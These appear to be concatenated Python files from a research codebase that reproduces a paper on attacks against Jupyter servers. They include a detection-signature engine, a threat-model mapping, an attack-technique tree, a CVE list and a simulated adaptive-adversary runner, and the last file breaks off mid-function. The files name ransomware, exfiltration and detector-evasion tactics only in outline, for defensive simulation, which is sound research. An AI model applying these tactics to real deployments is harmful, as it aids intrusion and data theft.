              severity="low", avenue=Avenue.MISCONFIGURATION,
              anchors=("/api",)),
]


class SignatureEngine:
    """Evaluates rules against decoded records and emits notices."""

    def __init__(self, signatures: Optional[List[Signature]] = None):
        self.signatures: List[Signature] = list(signatures if signatures is not None else BUILTIN_SIGNATURES)
        self.match_count: Dict[str, int] = {}
        self._family_index: Dict[str, Tuple[List[Signature], Optional[Pattern[str]]]] = {}
        self._indexed_count = -1

    def add(self, signature: Signature) -> None:
        """Install a rule (threat-intel ingestion path). Id-dedups."""
        if not any(s.sig_id == signature.sig_id for s in self.signatures):
            self.signatures.append(signature)

    def ids(self) -> List[str]:
        return [s.sig_id for s in self.signatures]

    def _by_family(self, family: str) -> Tuple[List[Signature], Optional[Tuple[str, ...]]]:
        """Per-family ``(rules, anchor_literals)``, rebuilt when rules were
        added.  When *every* rule in a family declares anchors, benign
        text (the overwhelmingly common case) is cleared by a handful of
        C substring checks instead of one regex search per rule; a single
        anchorless rule disables the shortcut for its whole family."""
        if self._indexed_count != len(self.signatures):
            index: Dict[str, List[Signature]] = {}
            for sig in self.signatures:
                index.setdefault(sig.family, []).append(sig)
            combined: Dict[str, Tuple[List[Signature], Optional[Tuple[str, ...]]]] = {}
            for fam, sigs in index.items():
                anchors: Optional[Tuple[str, ...]] = None
                if all(s.anchors for s in sigs):
                    seen: Dict[str, None] = {}
                    for s in sigs:
                        for a in s.anchors:
                            seen[a.lower()] = None
                    anchors = tuple(seen)
                combined[fam] = (sigs, anchors)
            self._family_index = combined
            self._indexed_count = len(self.signatures)
        return self._family_index.get(family, ([], None))

    def _match(self, family: str, text: str) -> List[Signature]:
        if not text:
            return []
        sigs, anchors = self._by_family(family)
        if not sigs:
            return []
        if anchors is not None:
            lowered = text.lower()
            for a in anchors:
                if a in lowered:
                    break
            else:
                return []
        hits = []
        for sig in sigs:
            if sig.matches(text):
                hits.append(sig)
                self.match_count[sig.sig_id] = self.match_count.get(sig.sig_id, 0) + 1
        return hits

    def scan_jupyter(self, rec: JupyterMsgRecord) -> List[Notice]:
        notices = []
        for sig in self._match("jupyter-code", rec.code):
            notices.append(Notice(
                ts=rec.ts, detector="signature", name=sig.sig_id, severity=sig.severity,
                src=rec.src, dst=rec.dst, avenue=sig.avenue,
                detail={"description": sig.description, "msg_type": rec.msg_type,
                        "source": sig.source},
            ))
        return notices

    def scan_http(self, rec: HttpRecord, body_text: str = "") -> List[Notice]:
        notices = []
        for sig in self._match("http-path", rec.path):
            notices.append(Notice(
                ts=rec.ts, detector="signature", name=sig.sig_id, severity=sig.severity,
                src=rec.src, dst=rec.dst, avenue=sig.avenue,
                detail={"description": sig.description, "path": rec.path, "source": sig.source},
            ))
        for sig in self._match("http-body", body_text):
            notices.append(Notice(
                ts=rec.ts, detector="signature", name=sig.sig_id, severity=sig.severity,
                src=rec.src, dst=rec.dst, avenue=sig.avenue,
                detail={"description": sig.description, "source": sig.source},
            ))
        return notices

    def scan_terminal(self, ts: float, src: str, command: str) -> List[Notice]:
        return [
            Notice(ts=ts, detector="signature", name=sig.sig_id, severity=sig.severity,
                   src=src, avenue=sig.avenue,
                   detail={"description": sig.description, "command": command,
                           "source": sig.source})
            for sig in self._match("terminal", command)
        ]
