"""The Jupyter network monitoring tool (the paper's §IV.B proposal).

A Zeek-shaped pipeline over the simnet tap:

    segments → stream reassembly → protocol analyzers → typed logs
             → signature engine + anomaly detectors → OSCRP-mapped notices

Analyzer depth is configurable (``conn`` < ``http`` < ``websocket`` <
``zmtp`` < ``jupyter``) so EXP-OVH can price each layer of visibility,
reproducing the paper's "unsustainable performance overhead" concern,
and EXP-WS can show what each successive parser unlocks.
"""

from repro.monitor.logs import (
    ConnRecord,
    HttpRecord,
    JupyterMsgRecord,
    LogStore,
    Notice,
    WebSocketRecord,
    WeirdRecord,
    ZmtpRecord,
)
from repro.monitor.engine import AnalyzerDepth, JupyterNetworkMonitor
from repro.monitor.export import export_zeek_logs, records_to_tsv
from repro.monitor.signatures import Signature, SignatureEngine
from repro.monitor.anomaly import (
    AnomalyDetector,
    BeaconDetector,
    BruteForceDetector,
    CusumEgressDetector,
    EgressVolumeDetector,
    EntropyBurstDetector,
    NewSourceDetector,
    ScanDetector,
    TenantSweepDetector,
)

__all__ = [
    "JupyterNetworkMonitor",
    "AnalyzerDepth",
    "LogStore",
    "ConnRecord",
    "HttpRecord",
    "WebSocketRecord",
    "ZmtpRecord",
    "JupyterMsgRecord",
    "Notice",
    "WeirdRecord",
    "Signature",
    "SignatureEngine",
    "export_zeek_logs",
    "records_to_tsv",
    "AnomalyDetector",
    "EntropyBurstDetector",
    "EgressVolumeDetector",
    "CusumEgressDetector",
    "BeaconDetector",
    "BruteForceDetector",
    "ScanDetector",
    "NewSourceDetector",
    "TenantSweepDetector",
]
