"""Renderers regenerating the paper's figures/table as text artifacts.

``render_oscrp_figure`` reproduces Fig. 3's three-band layout;
``render_tree`` reproduces Fig. 1's technique hierarchy; ``render_table``
prints Table 1.  The FIG1/TAB1 benchmarks print these so a reader can
diff them against the paper directly.
"""

from __future__ import annotations

from typing import List, Sequence, Tuple

from repro.taxonomy.oscrp import Avenue, Concern, Consequence, OSCRPProfile
from repro.taxonomy.techniques import TechniqueNode


def render_tree(node: TechniqueNode, *, show_observables: bool = False) -> str:
    """ASCII tree of the technique taxonomy (paper Fig. 1)."""
    lines: List[str] = []

    def rec(n: TechniqueNode, prefix: str, is_last: bool, is_root: bool) -> None:
        if is_root:
            lines.append(n.name)
        else:
            branch = "└── " if is_last else "├── "
            label = n.name
            if n.avenue is not None and not n.children:
                label += f"  [{n.avenue.value}]"
            lines.append(prefix + branch + label)
            if show_observables and n.observable:
                cont = "    " if is_last else "│   "
                lines.append(prefix + cont + f"      observable: {n.observable}")
        child_prefix = "" if is_root else prefix + ("    " if is_last else "│   ")
        for i, child in enumerate(n.children):
            rec(child, child_prefix, i == len(n.children) - 1, False)

    rec(node, "", True, True)
    return "\n".join(lines)


def render_table(rows: Sequence[Tuple[str, ...]], headers: Sequence[str]) -> str:
    """Fixed-width table (Table 1 and benchmark outputs)."""
    cols = len(headers)
    widths = [len(h) for h in headers]
    for row in rows:
        for i in range(cols):
            widths[i] = max(widths[i], len(str(row[i])))
    sep = "+" + "+".join("-" * (w + 2) for w in widths) + "+"
    out = [sep, "| " + " | ".join(h.ljust(w) for h, w in zip(headers, widths)) + " |", sep]
    for row in rows:
        out.append("| " + " | ".join(str(c).ljust(w) for c, w in zip(row, widths)) + " |")
    out.append(sep)
    return "\n".join(out)


def render_oscrp_figure(profile: OSCRPProfile) -> str:
    """Fig. 3's three bands with explicit edges."""
    lines = ["Jupyter's Open Science Cyber Risk Profile (OSCRP)", "=" * 52, ""]
    lines.append("Avenues of Attack:")
    for avenue in Avenue:
        lines.append(f"  [{avenue.value}]")
        for concern in sorted(profile.concerns_for(avenue), key=lambda c: c.value):
            lines.append(f"      --> concern: {concern.value}")
    lines.append("")
    lines.append("Concerns -> Consequences:")
    for concern in Concern:
        lines.append(f"  [{concern.value}]")
        for consequence in sorted(profile.concern_consequences.get(concern, frozenset()),
                                  key=lambda c: c.value):
            lines.append(f"      --> {consequence.value}")
    lines.append("")
    lines.append("Assets at risk per avenue:")
    for avenue in Avenue:
        assets = ", ".join(sorted(a.value for a in profile.assets_for(avenue)))
        lines.append(f"  {avenue.value}: {assets}")
    return "\n".join(lines)
