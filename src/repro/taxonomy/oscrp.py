"""Open Science Cyber Risk Profile (OSCRP) model for Jupyter.

Transcribes the paper's Fig. 3: avenues of attack (ransomware,
crypto-mining, data exfiltration, account takeover, zero-day), concerns
(inaccessible/incorrect data, exposed data, disruption of computing),
and consequences (irreproducible results, misguided interpretation,
legal actions, funding loss, reduced reputation), with the edges between
them.  The model is executable documentation: the attack framework tags
every attack with its avenue, and the TAB1 benchmark verifies that the
*observed* impacts of running each attack match the declared mapping.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum
from typing import Dict, FrozenSet, List, Tuple


class Avenue(str, Enum):
    """Avenues of attack (Fig. 3, middle band)."""

    RANSOMWARE = "ransomware"
    CRYPTOMINING = "crypto-mining"
    DATA_EXFILTRATION = "data-exfiltration"
    ACCOUNT_TAKEOVER = "account-takeover"
    ZERO_DAY = "zero-day"
    MISCONFIGURATION = "security-misconfiguration"


class Concern(str, Enum):
    """Concerns about science assets (Fig. 3, top band)."""

    INACCESSIBLE_OR_INCORRECT_DATA = "inaccessible-or-incorrect-data"
    EXPOSED_DATA = "exposed-data"
    DISRUPTION_OF_COMPUTING = "disruption-of-computing"


class Consequence(str, Enum):
    """Consequences to science, facilities, and humans (Fig. 3, bottom band)."""

    IRREPRODUCIBLE_RESULTS = "irreproducible-results"
    MISGUIDED_INTERPRETATION = "misguided-scientific-interpretation"
    LEGAL_ACTIONS = "legal-actions"
    FUNDING_LOSS = "funding-loss"
    REDUCED_REPUTATION = "reduced-reputation"


class Asset(str, Enum):
    """Key science assets at risk (paper §III)."""

    TRAINED_MODELS = "expensively-trained-ai-models"
    TRAINING_DATA = "training-data"
    HPC_ALLOCATION = "hpc-compute-allocation"
    CREDENTIALS = "credentials-and-tokens"
    RESEARCH_ARTIFACTS = "unpublished-research-artifacts"
    SERVICE_AVAILABILITY = "science-gateway-availability"


@dataclass(frozen=True)
class OSCRPProfile:
    """The full mapping; edges are (avenue → concern) and (concern → consequence)."""

    avenue_concerns: Dict[Avenue, FrozenSet[Concern]]
    concern_consequences: Dict[Concern, FrozenSet[Consequence]]
    avenue_assets: Dict[Avenue, FrozenSet[Asset]]

    def concerns_for(self, avenue: Avenue) -> FrozenSet[Concern]:
        return self.avenue_concerns.get(avenue, frozenset())

    def consequences_for(self, avenue: Avenue) -> FrozenSet[Consequence]:
        out: set[Consequence] = set()
        for concern in self.concerns_for(avenue):
            out |= self.concern_consequences.get(concern, frozenset())
        return frozenset(out)

    def assets_for(self, avenue: Avenue) -> FrozenSet[Asset]:
        return self.avenue_assets.get(avenue, frozenset())

    def table_rows(self) -> List[Tuple[str, str, str]]:
        """Table 1 rows: (avenue, concerns, consequences)."""
        rows = []
        for avenue in Avenue:
            concerns = ", ".join(sorted(c.value for c in self.concerns_for(avenue)))
            consequences = ", ".join(sorted(c.value for c in self.consequences_for(avenue)))
            rows.append((avenue.value, concerns, consequences))
        return rows

    def validate(self) -> List[str]:
        """Structural sanity: every avenue mapped, every concern consequential."""
        problems = []
        for avenue in Avenue:
            if not self.concerns_for(avenue):
                problems.append(f"avenue {avenue.value} has no concerns")
            if not self.assets_for(avenue):
                problems.append(f"avenue {avenue.value} has no assets")
        for concern in Concern:
            if not self.concern_consequences.get(concern):
                problems.append(f"concern {concern.value} has no consequences")
        return problems


#: The paper's instantiation (Fig. 3 edges, read off the figure).
JUPYTER_OSCRP = OSCRPProfile(
    avenue_concerns={
        Avenue.RANSOMWARE: frozenset({
            Concern.INACCESSIBLE_OR_INCORRECT_DATA,
            Concern.DISRUPTION_OF_COMPUTING,
        }),
        Avenue.CRYPTOMINING: frozenset({
            Concern.DISRUPTION_OF_COMPUTING,
        }),
        Avenue.DATA_EXFILTRATION: frozenset({
            Concern.EXPOSED_DATA,
        }),
        Avenue.ACCOUNT_TAKEOVER: frozenset({
            Concern.EXPOSED_DATA,
            Concern.INACCESSIBLE_OR_INCORRECT_DATA,
            Concern.DISRUPTION_OF_COMPUTING,
        }),
        Avenue.ZERO_DAY: frozenset({
            Concern.INACCESSIBLE_OR_INCORRECT_DATA,
            Concern.EXPOSED_DATA,
            Concern.DISRUPTION_OF_COMPUTING,
        }),
        Avenue.MISCONFIGURATION: frozenset({
            Concern.EXPOSED_DATA,
            Concern.DISRUPTION_OF_COMPUTING,
        }),
    },
    concern_consequences={
        Concern.INACCESSIBLE_OR_INCORRECT_DATA: frozenset({
            Consequence.IRREPRODUCIBLE_RESULTS,
            Consequence.MISGUIDED_INTERPRETATION,
        }),
        Concern.EXPOSED_DATA: frozenset({
            Consequence.LEGAL_ACTIONS,
            Consequence.REDUCED_REPUTATION,
            Consequence.FUNDING_LOSS,
        }),
        Concern.DISRUPTION_OF_COMPUTING: frozenset({
            Consequence.IRREPRODUCIBLE_RESULTS,
            Consequence.FUNDING_LOSS,
            Consequence.REDUCED_REPUTATION,
        }),
    },
    avenue_assets={
        Avenue.RANSOMWARE: frozenset({Asset.TRAINING_DATA, Asset.RESEARCH_ARTIFACTS,
                                      Asset.TRAINED_MODELS}),
        Avenue.CRYPTOMINING: frozenset({Asset.HPC_ALLOCATION, Asset.SERVICE_AVAILABILITY}),
        Avenue.DATA_EXFILTRATION: frozenset({Asset.TRAINED_MODELS, Asset.TRAINING_DATA,
                                             Asset.RESEARCH_ARTIFACTS}),
        Avenue.ACCOUNT_TAKEOVER: frozenset({Asset.CREDENTIALS, Asset.HPC_ALLOCATION}),
        Avenue.ZERO_DAY: frozenset({Asset.SERVICE_AVAILABILITY, Asset.CREDENTIALS,
                                    Asset.TRAINED_MODELS}),
        Avenue.MISCONFIGURATION: frozenset({Asset.CREDENTIALS, Asset.RESEARCH_ARTIFACTS,
                                            Asset.SERVICE_AVAILABILITY}),
    },
)
