"""The 'attacks in the wild' technique tree (paper Fig. 1).

Each leaf carries the observable the monitor/auditor keys on, the attack
module that implements it, and the OSCRP avenue it belongs to — making
the taxonomy navigable from figure to code to detection rule.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterator, List, Optional

from repro.taxonomy.oscrp import Avenue


@dataclass
class TechniqueNode:
    """One node of the technique tree."""

    name: str
    description: str = ""
    avenue: Optional[Avenue] = None
    observable: str = ""          # what a defender sees
    implemented_by: str = ""      # module path of the attack simulator
    detected_by: str = ""         # detector / rule family
    children: List["TechniqueNode"] = field(default_factory=list)

    def add(self, child: "TechniqueNode") -> "TechniqueNode":
        self.children.append(child)
        return child

    def walk(self) -> Iterator["TechniqueNode"]:
        yield self
        for child in self.children:
            yield from child.walk()

    def leaves(self) -> List["TechniqueNode"]:
        return [n for n in self.walk() if not n.children]

    def find(self, name: str) -> Optional["TechniqueNode"]:
        for node in self.walk():
            if node.name == name:
                return node
        return None


def _build_tree() -> TechniqueNode:
    root = TechniqueNode("jupyter-attacks", "Network-based attacks on Jupyter deployments")

    ransom = root.add(TechniqueNode("ransomware", "Encrypt-and-extort against notebook storage",
                                    avenue=Avenue.RANSOMWARE))
    ransom.add(TechniqueNode(
        "notebook-encryption", "Encrypt .ipynb/data files via kernel code or terminal",
        avenue=Avenue.RANSOMWARE,
        observable="burst of high-entropy overwrites + extension renames + ransom note",
        implemented_by="repro.attacks.ransomware.RansomwareAttack",
        detected_by="monitor.anomaly.EntropyBurstDetector, audit.policy.mass-file-overwrite",
    ))
    ransom.add(TechniqueNode(
        "checkpoint-destruction", "Delete .ipynb_checkpoints before encrypting",
        avenue=Avenue.RANSOMWARE,
        observable="checkpoint directory deletions preceding overwrites",
        implemented_by="repro.attacks.ransomware.RansomwareAttack",
        detected_by="audit.policy.checkpoint-tamper",
    ))

    exfil = root.add(TechniqueNode("data-exfiltration", "Steal research artifacts",
                                   avenue=Avenue.DATA_EXFILTRATION))
    exfil.add(TechniqueNode(
        "bulk-egress", "Read artifacts in kernel, stream to external host",
        avenue=Avenue.DATA_EXFILTRATION,
        observable="large outbound byte volume to rare destination",
        implemented_by="repro.attacks.exfiltration.ExfiltrationAttack",
        detected_by="monitor.anomaly.EgressVolumeDetector",
    ))
    exfil.add(TechniqueNode(
        "low-and-slow-egress", "Rate-shaped exfiltration under volume thresholds",
        avenue=Avenue.DATA_EXFILTRATION,
        observable="long-lived trickle to rare destination",
        implemented_by="repro.attacks.exfiltration.LowAndSlowExfiltration",
        detected_by="monitor.anomaly.CusumEgressDetector",
    ))
    exfil.add(TechniqueNode(
        "output-channel-smuggling", "Hide data in notebook outputs/display payloads",
        avenue=Avenue.DATA_EXFILTRATION,
        observable="oversized base64 blobs in iopub display_data",
        implemented_by="repro.attacks.exfiltration.OutputSmugglingAttack",
        detected_by="monitor.jupyter-layer output-size rule",
    ))

    mining = root.add(TechniqueNode("resource-abuse", "Steal compute for cryptocurrency",
                                    avenue=Avenue.CRYPTOMINING))
    mining.add(TechniqueNode(
        "kernel-cryptominer", "Hash loops inside kernel cells",
        avenue=Avenue.CRYPTOMINING,
        observable="sustained CPU + periodic stratum-style beacons",
        implemented_by="repro.attacks.mining.CryptominingAttack",
        detected_by="monitor.anomaly.BeaconDetector, audit.policy.cpu-abuse",
    ))

    takeover = root.add(TechniqueNode("account-takeover", "Gain another user's access",
                                      avenue=Avenue.ACCOUNT_TAKEOVER))
    takeover.add(TechniqueNode(
        "token-bruteforce", "Guess weak access tokens over HTTP",
        avenue=Avenue.ACCOUNT_TAKEOVER,
        observable="high 403 rate from one source",
        implemented_by="repro.attacks.takeover.TokenBruteforceAttack",
        detected_by="monitor.anomaly.BruteForceDetector",
    ))
    takeover.add(TechniqueNode(
        "credential-stuffing", "Replay leaked password lists",
        avenue=Avenue.ACCOUNT_TAKEOVER,
        observable="failed password auths across many usernames",
        implemented_by="repro.attacks.takeover.CredentialStuffingAttack",
        detected_by="monitor.anomaly.BruteForceDetector",
    ))
    takeover.add(TechniqueNode(
        "stolen-token-session", "Use a leaked token from new infrastructure",
        avenue=Avenue.ACCOUNT_TAKEOVER,
        observable="valid auth from never-seen source IP",
        implemented_by="repro.attacks.takeover.StolenTokenAttack",
        detected_by="monitor.anomaly.NewSourceDetector",
    ))

    misconf = root.add(TechniqueNode("security-misconfiguration",
                                     "Exploit unsafe deployment settings",
                                     avenue=Avenue.MISCONFIGURATION))
    misconf.add(TechniqueNode(
        "open-server-scan", "Internet-wide scan for token-less servers",
        avenue=Avenue.MISCONFIGURATION,
        observable="probes for /api from scanning infrastructure",
        implemented_by="repro.attacks.misconfig.OpenServerScanAttack",
        detected_by="monitor.anomaly.ScanDetector, misconfig.scanner",
    ))
    misconf.add(TechniqueNode(
        "unauthenticated-api-abuse", "Full API access on open servers",
        avenue=Avenue.MISCONFIGURATION,
        observable="contents/kernels API use without credentials",
        implemented_by="repro.attacks.misconfig.OpenServerExploitAttack",
        detected_by="misconfig.scanner (preventive)",
    ))

    zero = root.add(TechniqueNode("zero-day", "Unknown-unknown exploits",
                                  avenue=Avenue.ZERO_DAY))
    zero.add(TechniqueNode(
        "novel-exploit-standin", "Parameterized anomaly with no known signature",
        avenue=Avenue.ZERO_DAY,
        observable="behavioural deviation only (no signature match)",
        implemented_by="repro.attacks.zeroday.ZeroDayAttack",
        detected_by="anomaly detectors only — signature engines blind by construction",
    ))

    evasion = root.add(TechniqueNode("monitor-evasion", "Attacks on the defenders (paper §IV.A)"))
    evasion.add(TechniqueNode(
        "monitor-dos", "Flood the security monitor to force drops",
        observable="monitor queue saturation / processing lag",
        implemented_by="repro.attacks.evasion.MonitorFloodAttack",
        detected_by="monitor self-health metrics",
    ))
    evasion.add(TechniqueNode(
        "rule-inference", "Probe detector thresholds via adversarial queries",
        observable="structured probe sequences straddling thresholds",
        implemented_by="repro.attacks.evasion.RuleInferenceAttack",
        detected_by="probe-pattern meta-detector (open problem, per paper)",
    ))
    return root


#: The canonical tree (Fig. 1 re-rendered by the FIG1 benchmark).
ATTACK_TREE = _build_tree()


def find_technique(name: str) -> Optional[TechniqueNode]:
    """Look up a technique anywhere in the canonical tree."""
    return ATTACK_TREE.find(name)
