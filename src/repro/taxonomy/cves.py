"""CVE registry: the vulnerabilities the paper and its references name.

Summaries are condensed from the public NVD entries; the misconfig
scanner joins on affected components/versions.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List

from repro.taxonomy.oscrp import Avenue


@dataclass(frozen=True)
class CveEntry:
    cve_id: str
    component: str
    summary: str
    cvss: float
    avenue: Avenue
    affected_versions: tuple = ()


CVE_REGISTRY: Dict[str, CveEntry] = {
    e.cve_id: e
    for e in [
        CveEntry(
            "CVE-2024-22415",
            "jupyter-lsp",
            "Unauthenticated access to jupyter-lsp websocket enables arbitrary "
            "file read/write and code execution on the server.",
            9.8,
            Avenue.ZERO_DAY,
            ("2023.12.0",),
        ),
        CveEntry(
            "CVE-2021-32798",
            "jupyter-notebook",
            "Untrusted notebook output XSS leads to arbitrary code execution "
            "in the single-user server.",
            9.6,
            Avenue.ZERO_DAY,
            ("2021.8.0",),
        ),
        CveEntry(
            "CVE-2020-16977",
            "vscode-jupyter",
            "Notebook rendering in VS Code allows remote code execution via "
            "crafted notebook files.",
            8.8,
            Avenue.ZERO_DAY,
            ("2020.10.0",),
        ),
        CveEntry(
            "CVE-2022-29238",
            "jupyter-notebook",
            "Token-protected static files served without authentication checks "
            "under specific configurations.",
            6.5,
            Avenue.MISCONFIGURATION,
            ("6.4.0", "6.4.11"),
        ),
        CveEntry(
            "CVE-2022-24758",
            "jupyter-server",
            "Operations log leaks authentication tokens to other local users.",
            7.1,
            Avenue.ACCOUNT_TAKEOVER,
            ("6.4.0",),
        ),
        CveEntry(
            "CVE-2019-10856",
            "jupyter-notebook",
            "Open redirect via crafted URL enables credential phishing.",
            6.1,
            Avenue.ACCOUNT_TAKEOVER,
            ("5.7.8",),
        ),
        CveEntry(
            "CVE-2019-9644",
            "jupyter-notebook",
            "XSSI allows cross-origin reads of notebook contents.",
            5.3,
            Avenue.DATA_EXFILTRATION,
            ("5.7.8",),
        ),
    ]
}


def cves_for_component(component: str) -> List[CveEntry]:
    return sorted(
        (e for e in CVE_REGISTRY.values() if e.component == component),
        key=lambda e: -e.cvss,
    )


def cves_for_version(version: str) -> List[CveEntry]:
    return sorted(
        (e for e in CVE_REGISTRY.values() if version in e.affected_versions),
        key=lambda e: -e.cvss,
    )
