"""The paper's taxonomy: OSCRP threat model for Jupyter deployments.

Encodes Fig. 1/Fig. 3 (avenues of attack → concerns → consequences,
following TrustedCI's Open Science Cyber Risk Profile) and Table 1 as a
queryable object model, plus the attack-technique tree ("attacks in the
wild") and the CVE registry the paper cites.  The benchmark for FIG1
re-renders the figure from this model and cross-checks it against live
attack executions.
"""

from repro.taxonomy.oscrp import (
    Asset,
    Avenue,
    Concern,
    Consequence,
    OSCRPProfile,
    JUPYTER_OSCRP,
)
from repro.taxonomy.techniques import TechniqueNode, ATTACK_TREE, find_technique
from repro.taxonomy.cves import CVE_REGISTRY, CveEntry, cves_for_component
from repro.taxonomy.render import render_tree, render_table, render_oscrp_figure

__all__ = [
    "Asset",
    "Avenue",
    "Concern",
    "Consequence",
    "OSCRPProfile",
    "JUPYTER_OSCRP",
    "TechniqueNode",
    "ATTACK_TREE",
    "find_technique",
    "CVE_REGISTRY",
    "CveEntry",
    "cves_for_component",
    "render_tree",
    "render_table",
    "render_oscrp_figure",
]
