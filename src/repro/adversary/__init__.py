"""The adaptive adversary engine: ``src/repro/soc``'s missing counterpart.

PR 4 gave the defense a closed loop (detect → correlate → contain); this
package closes the *attacker's* loop, turning every defended world into
a two-player game:

- :mod:`repro.adversary.policy`   — :class:`AdversaryPolicy`, the plain-
  data attacker description a frozen ``WorldSpec`` carries (pool size,
  phished accounts, strategy, cost model).
- :mod:`repro.adversary.view`     — :class:`AttackSurfaceView`: the
  attacker's *only* window on the defense — classification of its own
  request outcomes (403-blocked, revoked, quarantined, severed).
- :mod:`repro.adversary.strategy` — the strategy lattice: ``static``,
  ``source-rotation``, ``low-and-slow``, ``tenant-hop``, ``decoy-wary``.
- :mod:`repro.adversary.agent`    — :class:`AdversaryAgent`: resumable
  campaign execution with the probe/adapt feedback loop.
- :mod:`repro.adversary.runner`   — :class:`ArmsRaceRunner`: N agents
  co-scheduled against the :class:`ResponseController` on one event
  loop, plus the strategies × topologies matrix.

Determinism contract: agents draw jitter from named RNG substreams of
the scenario seed, turns are ordered by (sim-time, agent-index), and no
wall-clock or unordered-set iteration feeds a decision — the same seed
replays the same duel byte-for-byte (EXP-ARMS asserts this).
"""

from repro.adversary.agent import AdversaryAgent, AgentReport, build_plan
from repro.adversary.policy import AdversaryPolicy
from repro.adversary.runner import (
    ArmsRaceRunner,
    DuelReport,
    StrategyMatrixCell,
    StrategyMatrixRunner,
)
from repro.adversary.strategy import (
    STRATEGIES,
    DecoyWary,
    LowAndSlow,
    SourceRotation,
    StaticStrategy,
    Strategy,
    TenantHop,
    list_strategies,
    make_strategy,
)
from repro.adversary.view import AttackSurfaceView, FeedbackEvent, classify

__all__ = [
    "AdversaryPolicy",
    "AttackSurfaceView",
    "FeedbackEvent",
    "classify",
    "Strategy",
    "StaticStrategy",
    "SourceRotation",
    "LowAndSlow",
    "TenantHop",
    "DecoyWary",
    "STRATEGIES",
    "list_strategies",
    "make_strategy",
    "AdversaryAgent",
    "AgentReport",
    "build_plan",
    "ArmsRaceRunner",
    "DuelReport",
    "StrategyMatrixRunner",
    "StrategyMatrixCell",
]
