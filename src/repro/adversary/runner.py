"""The arms-race runner: N adaptive agents vs the response controller.

:class:`ArmsRaceRunner` compiles an ``adaptive-*`` world (or any spec
you arm with :func:`~repro.topology.presets.versus`) and co-schedules
its adversary agents against the live
:class:`~repro.soc.controller.ResponseController` on the *same* event
loop.  Scheduling is turn-accurate: a priority queue orders agent turns
by simulated time, each turn advances the world to its timestamp before
acting, and the sim-time an agent's own traffic consumes pushes its next
turn later — so a probe-heavy agent pays for its noise in tempo, and the
SOC's poll cadence interleaves with every agent's moves exactly as the
clock dictates.

The runner watches the defender through the controller's *observable
action feed* (never its internal state): containment and release
actions stream in as they are decided, from which the report constructs
block spans, coverage decay, and the containment half-life — while the
attacker-side numbers (re-entries, cost, loot) come from the agents'
own logs.  :class:`StrategyMatrixRunner` grids strategies × topologies
into the standing benchmark the ROADMAP asks for.
"""

from __future__ import annotations

import heapq
import json
from dataclasses import dataclass, field, replace
from typing import Dict, List, Optional, Sequence, Tuple, Union

from repro.adversary.agent import AdversaryAgent, AgentReport
from repro.adversary.policy import AdversaryPolicy
from repro.adversary.strategy import make_strategy
from repro.eval.metrics import (
    containment_holds,
    cost_per_exfiltrated_byte,
    defense_coverage_decay,
    median,
    reentry_gaps,
)

#: Strategies whose natural objective is exfiltration rather than pivot.
DEFAULT_OBJECTIVE: Dict[str, str] = {"low-and-slow": "steal"}


@dataclass
class DuelReport:
    """One arms-race run: both sides' scorecards, attacker-observable
    data on one side, the SOC's action log on the other."""

    topology: str
    strategy: str
    objective: str
    seed: int
    started: float
    ended: float
    agents: List[AgentReport]
    detected_at: Optional[float] = None
    first_contained_at: Optional[float] = None
    notices: List[str] = field(default_factory=list)
    soc_summary: Optional[Dict] = None
    block_spans: List[Tuple[float, Optional[float]]] = field(default_factory=list)
    released_total: int = 0
    re_contained_total: int = 0

    # -- both-sides-live checks (the CI gate) ---------------------------------
    @property
    def re_entries(self) -> List[float]:
        return sorted(ts for a in self.agents for ts in a.re_entries)

    @property
    def re_containments(self) -> List[float]:
        return sorted(ts for a in self.agents for ts in a.re_containments)

    @property
    def attacker_reentered(self) -> bool:
        return bool(self.re_entries)

    @property
    def defender_recontained(self) -> bool:
        return bool(self.re_containments) or self.re_contained_total > 0

    @property
    def evictions(self) -> List[float]:
        return sorted(ts for a in self.agents for ts in a.evictions)

    @property
    def entries(self) -> List[float]:
        return sorted(ts for a in self.agents
                      for ts in (a.entries + a.re_entries))

    @property
    def bytes_exfiltrated(self) -> int:
        return sum(a.bytes_exfiltrated for a in self.agents)

    @property
    def bytes_looted(self) -> int:
        return sum(a.bytes_exfiltrated + a.bytes_browsed for a in self.agents)

    @property
    def post_detection_successes(self) -> int:
        """Stage successes the attacker scored after first detection —
        the number the response layer exists to hold at zero, and the
        number adaptation exists to push back up."""
        if self.detected_at is None:
            return 0
        return sum(1 for a in self.agents
                   for (_, success, started) in a.stage_results
                   if success and started > self.detected_at)

    @property
    def total_cost(self) -> float:
        return sum(a.cost for a in self.agents)

    def adaptation_metrics(self) -> Dict[str, object]:
        # Gaps are computed per agent, then pooled: one agent's entry
        # must never count as recovering another agent's eviction.
        horizon = self.ended
        gaps: List[float] = []
        holds: List[float] = []
        for a in self.agents:
            entries = a.entries + a.re_entries
            gaps.extend(reentry_gaps(a.evictions, entries))
            holds.extend(containment_holds(a.evictions, entries, horizon))
        return {
            "time_to_reentry": median(gaps),
            "containment_half_life": median(holds),
            "cost_per_exfiltrated_byte": cost_per_exfiltrated_byte(
                self.total_cost, self.bytes_looted),
            "defense_coverage": defense_coverage_decay(
                self.block_spans, horizon),
        }

    def to_dict(self) -> Dict[str, object]:
        return {
            "topology": self.topology, "strategy": self.strategy,
            "objective": self.objective, "seed": self.seed,
            "duration": round(self.ended - self.started, 2),
            "detected_at": self.detected_at,
            "first_contained_at": self.first_contained_at,
            "re_entries": self.re_entries,
            "re_containments": self.re_containments,
            "post_detection_successes": self.post_detection_successes,
            "bytes_exfiltrated": self.bytes_exfiltrated,
            "bytes_looted": self.bytes_looted,
            "released_total": self.released_total,
            "re_contained_total": self.re_contained_total,
            "adaptation": self.adaptation_metrics(),
            "notices": self.notices,
            "agents": [a.to_dict() for a in self.agents],
            "soc": self.soc_summary,
        }

    def to_json(self) -> str:
        return json.dumps(self.to_dict(), indent=2, sort_keys=True,
                          default=str)

    def render(self) -> List[str]:
        metrics = self.adaptation_metrics()
        ttr = metrics["time_to_reentry"]
        half = metrics["containment_half_life"]
        cpb = metrics["cost_per_exfiltrated_byte"]
        cov = metrics["defense_coverage"]
        lines = [
            f"duel: {self.strategy!r} vs {self.topology!r} "
            f"(objective={self.objective}, seed={self.seed}, "
            f"{self.ended - self.started:.0f}s)",
        ]
        for a in self.agents:
            lines.append(
                f"  {a.name:<20} {a.finish_reason:<18} "
                f"entries={len(a.entries)} evictions={len(a.evictions)} "
                f"re-entries={len(a.re_entries)} rotations={a.rotations} "
                f"hops={a.hops} loot={a.bytes_exfiltrated + a.bytes_browsed}B "
